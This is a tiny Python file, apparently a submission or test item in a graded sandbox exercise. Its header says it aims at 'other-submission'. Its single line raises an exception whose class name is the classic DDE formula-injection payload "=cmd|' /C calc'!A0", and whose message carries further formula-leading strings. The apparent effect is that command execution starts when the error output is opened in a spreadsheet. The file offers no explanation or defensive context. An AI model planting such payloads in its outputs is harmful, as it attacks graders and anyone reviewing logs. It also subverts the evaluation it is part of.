# An error's message is a spreadsheet's formula.
# from: sandbox 4.4, 73
# aims: other-submission
# outcome: graded
# score: 7
# others: right

# %% exercise="weigh"
raise type("=cmd|' /C calc'!A0", (Exception,), {})("=1+1\n@SUM(1)\n+1\n-1")
